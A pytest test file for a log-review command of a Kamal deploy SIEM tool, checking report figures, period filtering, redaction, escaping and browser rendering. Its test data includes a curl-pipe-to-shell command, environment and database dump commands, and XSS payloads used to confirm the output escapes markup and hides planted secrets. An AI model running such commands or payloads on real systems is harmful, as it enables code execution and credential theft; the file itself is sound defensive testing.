"""`kamal-siem review`: the periodic review from raw logs. Its figures on the bundled samples equal
counts derived independently (from the raw files, or from `kamal-siem parse` and `hunt` output with
plain Python); the period filter; empty, hostile and secret-laden input; byte-identical output; the
Markdown form; hook chain findings; and the page in headless Chromium (no console error, charts
drawn)."""

from __future__ import annotations

import datetime as dt
import fnmatch
import json
import os
import re
import subprocess
import sys
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from markdown_it import MarkdownIt

from converter.cli import main as cli
from converter.parsing.files import Options
from converter.review.command import make_report, review_command
from converter.review.html import render_html
from converter.review.markdown import render_markdown
from converter.review.model import Chart, Report, Table
from converter.review.period import PeriodError, PeriodRequest, resolve
from converter.tuning import load_tuning

from .cdp import Chromium
from .conftest import ROOT
from .test_verify_chain import write_spool

SAMPLES = ROOT / "samples"
AUDIT_FILES = sorted(SAMPLES.rglob("*-audit.log"))
EXEC_ACTIONS = {"app_exec", "accessory_exec", "server_exec"}
REMOVALS = {"app_stop", "app_container_remove", "app_containers_remove_all", "app_images_remove_all", "app_directory_remove",
            "accessory_stop", "accessory_container_remove", "accessory_image_remove", "proxy_stop", "proxy_container_remove",
            "proxy_image_remove", "env_delete"}
VERSION_A = "59fb98ee94b2966722f558f966fcd8ee91e8b749"
VERSION_B = "69cf533cbb4704dab13006dac13fc2de5210bac4"


# -- helpers ------------------------------------------------------------------------------------------------
def build(*paths: Path | str, since: str | None = None, until: str | None = None, generated_at: str | None = None) -> Report:
    report, _loaded = make_report([str(p) for p in paths], PeriodRequest(since, until), Options(), generated_at=generated_at)
    return report


def run_review(*args: str) -> Result:
    return CliRunner().invoke(review_command, list(args), catch_exceptions=False)


def table(report: Report, caption: str) -> list[dict[str, Any]]:
    """The rows of the table with this caption, as {column name: value}."""
    for section in report.sections:
        for block in section.blocks:
            if isinstance(block, Table) and block.caption == caption:
                return [dict(zip((c.name for c in block.columns), row, strict=True)) for row in block.rows]
    raise KeyError(caption)


def chart(report: Report, chart_id: str) -> Chart:
    return next(b for s in report.sections for b in s.blocks if isinstance(b, Chart) and b.id == chart_id)


def figure(report: Report, label: str) -> Any:
    return next(f.value for f in report.summary if f.label == label)


def parsed(*paths: Path) -> list[dict[str, Any]]:
    """`kamal-siem parse` output, as plain dicts."""
    result = CliRunner().invoke(cli, ["parse", "-q", *map(str, paths)])
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def independent_deploys(path: Path) -> list[dict[str, Any]]:
    """Deploys in one audit file, read from the raw text with regular expressions: a `Pulled image`
    starts a deploy; a `Renaming container` or `Booted app` starts a rollback (or a boot) when nothing
    is open, the open one was tagged, or it is about another version; a `Tagging` line closes it."""
    line_rx = re.compile(r"^\[(?P<ts>[^\]]+)\] \[(?P<who>.*?)\] \[[^\]]*\](?: \[[^\]]*\])? (?P<msg>.*)$")
    found: list[dict[str, Any]] = []
    current: dict[str, Any] | None = None
    for number, text in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
        m = line_rx.match(text)
        if not m:
            continue
        msg = m["msg"]
        if pulled := re.fullmatch(r"Pulled image with version (\S+)", msg):
            current = {"started": m["ts"], "performer": m["who"], "version": pulled[1], "kind": "deploy", "tagged": False, "line": number}
            found.append(current)
        elif step := re.fullmatch(r"(?:Renaming container (\S+) to \S+|Booted app version (\S+))", msg):
            version = step[1] or step[2]
            if current is None or current["tagged"] or current["version"] != version:
                current = {"started": m["ts"], "performer": m["who"], "version": version,
                           "kind": "rollback" if step[1] else "boot", "tagged": False, "line": number}
                found.append(current)
        elif msg.startswith("Tagging ") and current is not None:
            current["tagged"] = True
    return found


@pytest.fixture(scope="module")
def samples_report() -> Report:
    return build(SAMPLES)


# -- figures on the samples ------------------------------------------------------------------------------------
def test_deploys_equal_an_independent_count_of_the_raw_audit_lines(samples_report: Report) -> None:
    expected = [(d["started"], d["performer"], d["version"], d["kind"], "success" if d["tagged"] else "failure",
                 f"{path}:{d['line']}") for path in AUDIT_FILES for d in independent_deploys(path)]
    got = [(r["started"], r["performer"], r["version"], r["kind"], r["outcome"], r["where"]) for r in table(samples_report, "Every deploy")]
    assert sorted(got) == sorted(expected)
    # and the sample week's story: 8 deploys and a rollback, erik's three attempts failed
    assert len(got) == 9
    assert Counter(r[4] for r in got) == {"success": 6, "failure": 3}
    assert [r[1] for r in got if r[4] == "failure"] == ["erik@shop.example"] * 3
    assert [(r[1], r[3]) for r in got if r[3] == "rollback"] == [("dana@shop.example", "rollback")]
    assert (figure(samples_report, "deploys"), figure(samples_report, "failed or partial deploys"), figure(samples_report, "rollbacks")) == (9, 3, 1)


def test_deploy_summaries_and_charts_agree_with_the_deploy_list(samples_report: Report) -> None:
    deploys = table(samples_report, "Every deploy")
    per_day = Counter((d["started"][:10], d["outcome"]) for d in deploys)
    days = chart(samples_report, "chart-deploys-per-day")
    assert days.categories == tuple(f"2026-10-{d:02d}" for d in range(4, 12))  # every day, with or without deploys
    for series in days.series:
        assert series.values == tuple(per_day.get((day, series.name), 0) for day in days.categories)
    assert sum(sum(s.values) for s in days.series) == len(deploys)
    by_performer = Counter(d["performer"] for d in deploys)
    people = chart(samples_report, "chart-deploys-by-performer")
    assert dict(zip(people.categories, (sum(v) for v in zip(*(s.values for s in people.series), strict=True)), strict=True)) == by_performer
    places = {(r["service"], r["destination"]): r["deploys"] for r in table(samples_report, "Deploys by service and destination")}
    assert places == {("shop-api", "production"): 8, ("shop-api", "staging"): 1}


def test_kamal_runs_equal_the_run_records(samples_report: Report) -> None:
    events = [e for e in parsed(SAMPLES) if e.get("log_type") == "run" and e.get("action") in ("run_start", "run_complete", "run_failed")]
    runs = {e["run_id"] for e in events}
    failed = {e["run_id"] for e in events if e["action"] == "run_failed"}
    listed = table(samples_report, "Kamal runs (run records from the deployer)")
    assert len(listed) == len(runs) == 3
    assert len(table(samples_report, "Failed Kamal runs")) == len(failed) == 3
    assert all(r["error"].startswith("Kamal::Cli::HealthcheckError: ") for r in listed)


def _where(event: dict[str, Any]) -> str:
    return f"{event['source']}:{event['line']}" + (f"#{event['record']}" if "record" in event else "")


def test_execs_and_destructive_operations_equal_the_parse_output(samples_report: Report) -> None:
    events = [e for e in parsed(SAMPLES) if "error" not in e]
    execs = {_where(e) for e in events if (e["log_type"] == "audit" and e.get("action") in EXEC_ACTIONS)
             or (e["log_type"] == "docker" and e.get("action") == "exec_create")
             or (e["log_type"] == "process" and e.get("action") == "process_start"
                 and re.search(r"kamal.* (app|accessory|server) exec", e.get("CommandLine", "")))}
    listed = table(samples_report, "Every exec with its command")
    assert {r["where"] for r in listed} == execs and len(execs) == 8
    commands = {r["command or message"] for r in listed}
    assert {"printenv", "bin/rails console", "pg_dump -Fc shop > /tmp/shop.dump", "curl -fsSL https://paste.example/x.sh | sh"} <= commands
    exit_codes = {r["command or message"]: r["exit code"] for r in listed if r["log type"] == "docker"}
    assert exit_codes["bash"] == "0" and exit_codes["bin/rails console"] is None  # exec_die joined by exec id
    destructive = {_where(e) for e in events if e["log_type"] == "audit" and e.get("action") in REMOVALS}
    assert {r["where"] for r in table(samples_report, "Destructive operations")} == destructive and len(destructive) == 9
    secrets = table(samples_report, "Secrets-related operations")
    assert [(r["command or message"], r["listed because"]) for r in secrets] == [("printenv", "rule: Secrets Dumped Through a Kamal Exec")]


def test_flagged_performers_equal_the_parse_output_checked_against_the_tuning(samples_report: Report) -> None:
    tuning = load_tuning()

    def listed_in(name: str, performer: str) -> bool:
        return any(fnmatch.fnmatchcase(performer.lower(), v.lower()) for v in tuning.placeholders[name].values)

    events = [e for e in parsed(SAMPLES) if e.get("log_type") in ("audit", "run") and "error" not in e]
    expected = {e.get("performer", "") for e in events
                if e.get("performer_flags") or not e.get("performer", "").strip()
                or not listed_in("kamal_deployers", e.get("performer", "")) or listed_in("kamal_fallback_accounts", e.get("performer", ""))}
    rows = table(samples_report, "Performers to explain")
    assert {r["performer"] for r in rows} == expected
    why = {r["performer"]: r["why"] for r in rows}
    assert why["root"] == "not in kamal_deployers; fallback account: nobody can tell who it was"
    forged = next(p for p in why if p.startswith("ops] "))
    assert why[forged].startswith("forged or odd: brackets")


def test_alerts_equal_hunt(samples_report: Report) -> None:
    result = CliRunner().invoke(cli, ["hunt", "-q", "--format", "json", "--min-level", "informational", str(SAMPLES)])
    alerts = [json.loads(line) for line in result.stdout.splitlines()]
    expected = Counter((a["level"], a["title"]) for a in alerts)
    got = {(r["level"], r["rule"]): r["alerts"] for r in table(samples_report, "Alerts by rule")}
    assert got == expected and sum(got.values()) == 32
    levels = chart(samples_report, "chart-alerts-by-level")
    totals = {c: sum(s.values[i] for s in levels.series) for i, c in enumerate(levels.categories)}
    assert totals == {level: sum(n for (lvl, _t), n in expected.items() if lvl == level)
                      for level in ("critical", "high", "medium", "low", "informational")}
    assert len(table(samples_report, "Every alert")) == len(alerts)


def test_sources_account_for_every_raw_line(samples_report: Report) -> None:
    files = {str(p): p.read_bytes().count(b"\n") for p in sorted(SAMPLES.rglob("*")) if p.is_file()}
    rows = table(samples_report, "Files")
    assert {r["file"]: r["lines"] for r in rows} == files
    assert all(r["parsed"] + r["rejected"] == r["lines"] and r["every line accounted for"] == "yes" for r in rows)
    per_type = {r["log type"]: r["lines"] for r in table(samples_report, "Lines and events per log type")}
    assert per_type == {"audit": 53, "docker": 6, "process": 10, "proxy": 14, "run": 3}
    assert table(samples_report, "Rejected lines") == []
    assert samples_report.covered == "2026-10-04T12:00:01Z to 2026-10-11T22:40:08Z"
    assert samples_report.generated_at == "2026-10-11T22:40:08Z"  # the data's end, not the clock


# -- the period ----------------------------------------------------------------------------------------------------
def test_since_counts_back_from_the_last_event() -> None:
    report = build(SAMPLES, since="7d")
    assert report.period.startswith("from 2026-10-04T22:40:08Z to 2026-10-11T22:40:08Z")
    deploys = table(report, "Every deploy")
    assert len(deploys) == 8 and "staging" not in {d["destination"] for d in deploys}  # the staging deploy was 10 hours earlier
    assert chart(report, "chart-deploys-per-day").categories[0] == "2026-10-04"


def test_since_and_until_as_dates() -> None:
    report = build(SAMPLES, since="2026-10-08", until="2026-10-09T23:59:59Z")
    assert [(d["performer"], d["started"]) for d in table(report, "Every deploy")] == [("root", "2026-10-08T16:00:01Z")]
    assert [r["where"].rsplit(":", 1)[1] for r in table(report, "Every exec with its command")] == ["32", "33"]
    assert chart(report, "chart-deploys-per-day").categories == ("2026-10-08", "2026-10-09")
    assert table(report, "Kamal runs (run records from the deployer)") == []  # the runs were on 10-06
    alert_days = {r["time"][:10] for r in table(report, "Every alert")}
    assert alert_days == {"2026-10-08", "2026-10-09"}
    # rejected lines and files are reported whatever the period
    assert len(table(report, "Files")) == 6


def test_a_bad_period_is_a_usage_error() -> None:
    result = CliRunner().invoke(review_command, ["--since", "last tuesday", str(SAMPLES)])
    assert result.exit_code == 2 and "neither a duration" in result.output
    result = CliRunner().invoke(review_command, ["--since", "2026-10-09", "--until", "2026-10-08", str(SAMPLES)])
    assert result.exit_code == 2 and "is after --until" in result.output


# -- multi-host deploys and rejected lines ---------------------------------------------------------------------------
def _audit(path: Path, lines: list[str]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")


def test_one_deploy_on_two_hosts_counts_once_and_is_partial_when_one_host_failed(tmp_path: Path) -> None:
    def line(second: int, text: str) -> str:
        return f"[2026-10-05T09:{second // 60:02d}:{second % 60:02d}Z] [dana@shop.example] [production] {text}"

    pull, boot = f"Pulled image with version {VERSION_A}", f"[web] Booted app version {VERSION_A}"
    tag = f"Tagging ghcr.io/shop/api:{VERSION_A} as the latest image"
    # web-1 boots and tags; web-2 fails, and dana retries at once (within the 120 s that join hosts):
    # the retry is a second deploy, not a third host of the first one
    _audit(tmp_path / "web-1" / ".kamal" / "shop-api-production-audit.log", [line(1, pull), line(11, boot), line(29, tag)])
    _audit(tmp_path / "web-2" / ".kamal" / "shop-api-production-audit.log",
           [line(2, pull), line(12, boot), line(50, pull), line(60, boot), line(80, tag)])
    report = build(tmp_path)
    rows = table(report, "Every deploy")
    assert [(r["started"], r["outcome"], r["hosts tagged"], r["where"].split("/")[-3]) for r in rows] == [
        ("2026-10-05T09:00:01Z", "partial", "1 of 2", "web-1"), ("2026-10-05T09:00:50Z", "success", "1 of 1", "web-2")]
    assert [s.values for s in chart(report, "chart-deploys-per-day").series] == [(1,), (1,), (0,)]


def test_rejected_lines_are_reported_as_ranges_with_their_reason(tmp_path: Path) -> None:
    log = tmp_path / ".kamal" / "shop-api-production-audit.log"
    _audit(log, [f"[2026-10-05T09:00:01Z] [dana@shop.example] [production] Pulled image with version {VERSION_A}",
                 "not an audit line", "nor this", "", "[2026-10-05T09:00:02Z] [dana@shop.example] [production] Pruned images"])
    report = build(tmp_path)
    rows = table(report, "Rejected lines")
    assert [(r["lines"], r["count"], r["reason"]) for r in rows] == [("2-3", 2, "not a Kamal audit line"), ("4", 1, "blank line")]
    assert figure(report, "rejected lines") == 3
    [source] = table(report, "Files")
    assert (source["lines"], source["parsed"], source["rejected"]) == (5, 2, 3)


def test_hash_chain_gaps_and_edits_are_reported(tmp_path: Path) -> None:
    lines = write_spool(tmp_path / "spool", 5)
    segment = tmp_path / "spool" / "events-000001.ndjson"
    kept = segment.read_text().splitlines()
    del kept[2]  # seq 3 deleted
    segment.write_text("".join(line + "\n" for line in kept))
    (tmp_path / "exported.jsonl").write_text(lines[0] + "\n" + lines[1].replace("pre-deploy", "post-deploy") + "\n")
    report = build(tmp_path, SAMPLES)
    findings = [(r["where"].replace(str(tmp_path), ""), r["finding"]) for r in table(report, "Hash-chain findings")]
    assert findings == [("/spool/events-000001.ndjson:3", "gap"), ("/exported.jsonl:2", "edited")]
    assert figure(report, "chain findings") == 2
    intact = build(SAMPLES)
    assert table(intact, "Hash-chain findings") == [] and figure(intact, "chain findings") == 0


# -- empty and hostile input, secrets, determinism -----------------------------------------------------------------------
def test_empty_input_gives_a_complete_report(tmp_path: Path) -> None:
    (tmp_path / "logs").mkdir()
    result = run_review(str(tmp_path / "logs"), "-o", str(tmp_path / "r.html"))
    assert result.exit_code == 0, result.output
    page = (tmp_path / "r.html").read_text()
    assert page.count('<svg xmlns="http://www.w3.org/2000/svg" class="chart"') == 3
    assert "No deploys in this period" in page and "No alerts in this period" in page and 'class="bar"' not in page
    report = build(tmp_path / "logs")
    assert all(f.value == 0 for f in report.summary)
    assert report.generated_at == "no data" and report.covered == "no events in the period"
    md = run_review(str(tmp_path / "logs"), "--format", "md").stdout
    assert "_No deploys in this period._" in md and md.count("- [ ] ") == 8


HOSTILE = [
    f"[2026-10-05T09:00:01Z] [<script>alert(1)</script>] [production] Pulled image with version {VERSION_A}",
    f"[2026-10-05T09:00:11Z] [<script>alert(1)</script>] [production] [web] Booted app version {VERSION_A}",
    f"[2026-10-05T09:01:00Z] [<img src=x onerror=alert(2)>@evil.example] [production] Executed cmd "
    f"'</td></tr></table><script>alert(3)</script><svg onload=alert(4)>' on app version {VERSION_A}",
    "[2026-10-05T09:02:00Z] [eve|`x`|@evil.example] [production] Executed cmd '| [link](http://evil.example) `code` @team' on db accessory",
    "[2026-10-05T09:04:00Z] [mal\u202elory@shop.example\x1b[31m] [production] Stopped proxy",
]
PLANTED = ["app:s3cr3t-PLANTED-1@", "s3cr3t-PLANTED-2", "s3cr3t-PLANTED-3", "s3cr3t-PLANTED-4", "s3cr3t-PLANTED-5", "s3cr3t-PLANTED-6"]
SECRET_LINES = [
    "[2026-10-05T10:00:00Z] [eve@shop.example] [production] Executed cmd 'psql postgres://app:s3cr3t-PLANTED-1@db/shop' on db accessory",
    "[2026-10-05T10:01:00Z] [eve@shop.example] [production] Executed cmd 'docker login -u bob -p s3cr3t-PLANTED-2 ghcr.io' on 10.0.0.1",
    f"[2026-10-05T10:02:00Z] [eve@shop.example] [production] Executed cmd 'RAILS_MASTER_KEY=s3cr3t-PLANTED-3 bin/rails credentials:show' "
    f"on app version {VERSION_A}",
    "[2026-10-05T10:03:00Z] [eve@shop.example] [production] Executed cmd 'curl -H \"Authorization: Bearer s3cr3t-PLANTED-4\" x' on 10.0.0.1",
]


def _hostile_logs(root: Path) -> Path:
    _audit(root / "web-1" / ".kamal" / "shop-api-production-audit.log", HOSTILE + SECRET_LINES)
    process = {"@timestamp": "2026-10-05T10:05:00.000Z", "event": {"category": ["process"], "type": ["start"], "action": "exec"},
               "process": {"executable": "/usr/bin/ruby", "name": "ruby", "pid": 4242,
                           "command_line": "ruby bin/kamal secrets print --password s3cr3t-PLANTED-5",
                           "args": ["ruby", "bin/kamal", "secrets", "print", "--password", "s3cr3t-PLANTED-5"],
                           "parent": {"executable": "/bin/bash", "pid": 100, "command_line": "bash"},
                           "working_directory": "/home/eve/shop"},
               "user": {"name": "eve"}, "host": {"name": "laptop"}}
    (root / "laptop").mkdir()
    (root / "laptop" / "process.ndjson").write_text(json.dumps(process) + "\n")
    # a secret in an odd attribute of a line parsed with a warning, and in a rejected (torn) line
    (root / "web-1" / "docker-events.jsonl").write_text(
        json.dumps({"Type": "container", "Action": "exec_create: sh", "time": "not a time",
                    "Actor": {"Attributes": {"service": "shop-api", "password": "s3cr3t-PLANTED-6"}}}) + "\n"
        + '{"Type": "container", "Action": "exec_create: sh", "password": "s3cr3t-PLANTED-6"\n')
    return root


def test_hostile_values_are_text_not_markup(tmp_path: Path) -> None:
    logs = _hostile_logs(tmp_path / "logs")
    report = build(logs)
    page = render_html(report)
    for tag in ("<script", "<img", "<svg onload", "</td></tr></table><"):
        assert tag not in page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;img src=x onerror=alert(2)&gt;" in page
    assert "\u202e" not in page and "\x1b" not in page and "mal\\u202elory@shop.example\\x1b[31m" in page
    assert page.count("<script") == 0 and page.count("<svg ") == 3  # only the three charts
    performers = {r["performer"] for r in table(report, "Deploys by performer")}
    assert performers == {"<script>alert(1)</script>"}
    md = render_markdown(report)
    assert "`<script>alert(1)</script>`" in md
    assert "``eve\\|`x`\\|@evil.example``" in md  # a code span longer than the backticks inside, pipes escaped
    # rendered by a CommonMark renderer with GFM tables and raw HTML allowed: values stay text in their cells
    rendered = MarkdownIt("gfm-like", {"linkify": False}).render(md)
    for tag in ("<script", "<img", "<svg", "<a "):
        assert tag not in rendered
    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in rendered
    assert "<td><code>eve|`x`|@evil.example</code></td>" in rendered
    assert "<code>| [link](http://evil.example) `code` @team</code>" in rendered
    for table_html in re.findall(r"<table>.*?</table>", rendered, re.S):
        widths = {len(re.findall(r"<t[hd][ >]", row)) for row in re.findall(r"<tr>.*?</tr>", table_html, re.S)}
        assert len(widths) == 1, table_html  # no value added or shifted a column


def test_planted_secrets_never_appear(tmp_path: Path) -> None:
    logs = _hostile_logs(tmp_path / "logs")
    for fmt in ("html", "md"):
        result = run_review(str(logs), "--format", fmt)
        assert result.exit_code == 0, result.output
        for secret in PLANTED:
            assert secret not in result.output, (fmt, secret)
        assert "[REDACTED]" in result.output
    report = build(logs)
    secrets = {r["command or message"] for r in table(report, "Secrets-related operations")}
    assert "RAILS_MASTER_KEY=[REDACTED] bin/rails credentials:show" in secrets
    assert any("secrets print --password [REDACTED]" in (s or "") for s in secrets)
    [rejected] = table(report, "Rejected lines")
    assert rejected["reason"].startswith("truncated JSON")
    assert figure(report, "rejected lines") == 1


def test_the_same_input_gives_the_same_bytes(tmp_path: Path) -> None:
    outputs = []
    for n in (1, 2):
        out = tmp_path / f"r{n}.html"
        assert run_review(str(SAMPLES), "-o", str(out), "-q").exit_code == 0
        outputs.append(out.read_bytes())
    env = {**os.environ, "PYTHONHASHSEED": "12345"}
    other = subprocess.run([sys.executable, "-c", "from converter.review.command import review_command; review_command()",
                            str(SAMPLES), "-q"], cwd=ROOT, env=env, capture_output=True, check=True)
    assert outputs[0] == outputs[1] == other.stdout
    md = [run_review(str(SAMPLES), "--format", "md", "-q").stdout for _ in (1, 2)]
    assert md[0] == md[1]
    stamped = run_review(str(SAMPLES), "--generated-at", "2026-10-12T08:00:00+02:00", "-q").stdout
    assert "Report as of 2026-10-12T06:00:00Z." in stamped


def test_markdown_has_the_same_sections_and_figures_as_html(samples_report: Report) -> None:
    md, page = render_markdown(samples_report), render_html(samples_report)
    for section in samples_report.sections:
        assert f"## {section.title}" in md and f"<h2>{section.title}</h2>" in page
    assert md.count("- [ ] ") == len(samples_report.checklist) == 8
    assert "- **Reviewer:**" in md and "- **Findings:**" in md and "| action | owner | due |" in md
    assert 'id="reviewer"' in page and 'id="findings"' in page and page.count('type="checkbox"') == 8
    summary = md.split("## Summary", 1)[1].split("##", 1)[0].strip().splitlines()
    values = [v.strip().strip("*") for v in summary[2].strip("|").split("|")]
    assert values == [str(f.value) for f in samples_report.summary]
    assert "| 2026-10-07 | 4 | 1 | 0 | 3 |" in md  # deploys per day
    written = CliRunner().invoke(review_command, [str(SAMPLES), "-q", "-o", "/dev/null", "--format", "md"])
    assert written.exit_code == 0


def test_output_format_follows_the_file_name(tmp_path: Path) -> None:
    assert run_review(str(SAMPLES), "-q", "-o", str(tmp_path / "review.md")).exit_code == 0
    assert (tmp_path / "review.md").read_text().startswith("# Kamal operations review\n")
    assert run_review(str(SAMPLES), "-q", "-o", str(tmp_path / "review.html")).exit_code == 0
    assert (tmp_path / "review.html").read_text().startswith("<!DOCTYPE html>")


def test_an_unreadable_input_is_reported_and_fails(tmp_path: Path) -> None:
    result = CliRunner().invoke(review_command, [str(tmp_path / "missing.log"), str(SAMPLES), "-o", str(tmp_path / "r.md")])
    assert result.exit_code == 2 and "missing.log" in result.output
    files = (tmp_path / "r.md").read_text()
    assert "unreadable after 0 line(s)" in files and "Read: 6 file(s), 86 line(s), 1 input(s) unreadable" in files


# -- the page in headless Chromium ----------------------------------------------------------------------------------------
CHART_IDS = ("chart-deploys-per-day", "chart-deploys-by-performer", "chart-alerts-by-level")
CHARTS_JS = ("JSON.stringify([...document.querySelectorAll('svg.chart')].map(s => { const b = s.getBoundingClientRect(); "
             "return {id: s.id, x: b.x + scrollX, y: b.y + scrollY, width: b.width, height: b.height, "
             "bars: [...s.querySelectorAll('rect.bar')].filter(r => { const c = r.getBoundingClientRect(); "
             "return c.width > 0 && c.height > 0; }).length, empty: s.querySelector('text.empty')?.textContent ?? null}; }))")


@pytest.fixture(scope="module")
def browser() -> Any:
    chromium = Chromium()
    yield chromium
    chromium.close()


def _colors(hexes: list[str]) -> set[tuple[int, int, int]]:
    return {(int(h[1:3], 16), int(h[3:5], 16), int(h[5:7], 16)) for h in hexes}


def _load(browser: Chromium, page_path: Path) -> tuple[Any, list[dict[str, Any]]]:
    page = browser.open(page_path)
    charts = json.loads(page.evaluate(CHARTS_JS))
    return page, charts


def test_chromium_shows_the_samples_report_with_its_charts(browser: Chromium, tmp_path: Path) -> None:
    out = tmp_path / "review.html"
    assert run_review(str(SAMPLES), "-o", str(out), "-q").exit_code == 0
    page, charts = _load(browser, out)
    assert page.problems() == []
    assert [c["id"] for c in charts] == list(CHART_IDS)
    bars = {c["id"]: c["bars"] for c in charts}
    assert bars == {"chart-deploys-per-day": 7, "chart-deploys-by-performer": 4, "chart-alerts-by-level": 3}
    expected_colors = {"chart-deploys-per-day": ["#2e7d32", "#c62828"], "chart-deploys-by-performer": ["#2e7d32", "#c62828"],
                       "chart-alerts-by-level": ["#c62828", "#ef6c00", "#1565c0"]}
    for c in charts:
        assert c["width"] > 300 and c["height"] > 100 and c["empty"] is None
        _width, _height, pixels = page.screenshot({k: c[k] for k in ("x", "y", "width", "height")})
        counts = Counter(pixels)
        for color in _colors(expected_colors[c["id"]]):
            assert counts[color] > 100, (c["id"], color)  # each series' bars are painted
    assert page.evaluate("document.querySelectorAll('script, img, iframe, object, embed').length") == 0
    assert page.problems() == []


def test_chromium_shows_hostile_values_as_text(browser: Chromium, tmp_path: Path) -> None:
    out = tmp_path / "review.html"
    assert run_review(str(_hostile_logs(tmp_path / "logs")), "-o", str(out), "-q").exit_code == 0
    page, charts = _load(browser, out)
    assert page.problems() == []
    assert page.evaluate("document.querySelectorAll('script, img, iframe, object, embed').length") == 0
    assert page.evaluate("document.querySelectorAll('svg').length") == 3
    text = page.evaluate("document.body.innerText")
    assert "<script>alert(1)</script>" in text and "<img src=x onerror=alert(2)>@evil.example" in text
    assert "</td></tr></table><script>alert(3)</script><svg onload=alert(4)>" in text
    assert all(secret not in text for secret in PLANTED)
    assert [c["bars"] > 0 for c in charts] == [True, True, True]


def test_chromium_draws_empty_charts(browser: Chromium, tmp_path: Path) -> None:
    (tmp_path / "logs").mkdir()
    out = tmp_path / "review.html"
    assert run_review(str(tmp_path / "logs"), "-o", str(out), "-q").exit_code == 0
    page, charts = _load(browser, out)
    assert page.problems() == []
    assert [(c["id"], c["bars"], c["empty"]) for c in charts] == [
        ("chart-deploys-per-day", 0, "No deploys in this period"), ("chart-deploys-by-performer", 0, "No deploys in this period"),
        ("chart-alerts-by-level", 0, "No alerts in this period")]
    for c in charts:
        assert c["width"] > 300 and c["height"] > 50
        _w, _h, pixels = page.screenshot({k: c[k] for k in ("x", "y", "width", "height")})
        assert sum(1 for p in pixels if p != (255, 255, 255)) > 200  # the frame and the message are drawn


def test_the_chromium_harness_catches_errors_and_blocked_scripts(browser: Chromium, tmp_path: Path) -> None:
    """Controls: the checks above can fail. A console error is seen, and so is an inline script the
    report's Content-Security-Policy blocks (what an unescaped `<script>` value would become)."""
    broken = tmp_path / "broken.html"
    broken.write_text("<!DOCTYPE html><html><body><script>console.error('boom')</script></body></html>")
    assert browser.open(broken).problems() == ["console.error: boom"]
    out = tmp_path / "review.html"
    assert run_review(str(SAMPLES), "-o", str(out), "-q").exit_code == 0
    injected = tmp_path / "injected.html"
    injected.write_text(out.read_text().replace("<h1>", "<script>document.title = 'ran'</script><h1>", 1))
    page = browser.open(injected)
    assert any("Content Security Policy" in p for p in page.problems()), page.problems()
    assert page.evaluate("document.title") != "ran"


def test_standard_input_is_refused_with_a_reason() -> None:
    result = CliRunner().invoke(review_command, ["-"], input="x\n")
    assert result.exit_code == 2 and "save standard input to a file" in result.output


def test_the_period_resolves_durations_dates_and_now() -> None:
    end = dt.datetime(2026, 10, 11, 22, 40, 8)
    week = resolve(PeriodRequest("7d"), end)
    assert (week.since, week.until) == (dt.datetime(2026, 10, 4, 22, 40, 8), None)
    assert week.description == "from 2026-10-04T22:40:08Z to 2026-10-11T22:40:08Z, the last event (7d back from the last event in the data)"
    now = dt.datetime(2026, 11, 28, 3, 0, tzinfo=dt.UTC)
    live = resolve(PeriodRequest("24h", "now"), end, now=now)
    assert (live.since, live.until) == (dt.datetime(2026, 11, 27, 3, 0), dt.datetime(2026, 11, 28, 3, 0))
    zoned = resolve(PeriodRequest("2026-10-05T02:00:00+02:00", "2026-10-06"), end)
    assert (zoned.since, zoned.until) == (dt.datetime(2026, 10, 5, 0, 0), dt.datetime(2026, 10, 6, 0, 0))
    assert resolve(PeriodRequest(), end).description == "all the data read"
    assert resolve(PeriodRequest("7d"), None).since is None  # no data: nothing to count back from
    with pytest.raises(PeriodError):
        resolve(PeriodRequest("yesterday"), end)


def test_the_tuning_file_sets_the_allowlist_for_performers_and_rules(tmp_path: Path) -> None:
    tuning = (ROOT / "tuning.yml").read_text(encoding="utf-8")
    assert "      - runner\n  kamal_ci_performers:" in tuning
    custom = tmp_path / "tuning.yml"
    custom.write_text(tuning.replace("      - runner\n  kamal_ci_performers:", "      - runner\n      - root\n  kamal_ci_performers:"))
    report, _loaded = make_report([str(SAMPLES)], PeriodRequest(), Options(), tuning_path=custom)
    why = {r["performer"]: r["why"] for r in table(report, "Performers to explain")}
    assert why["root"] == "fallback account: nobody can tell who it was"  # allowlisted now, still a shared account
    rules = {r["rule"]: r["alerts"] for r in table(report, "Alerts by rule")}
    assert rules["Kamal Run by a Performer Outside the Deployer Allowlist"] == 1  # only the forged line, not root's six
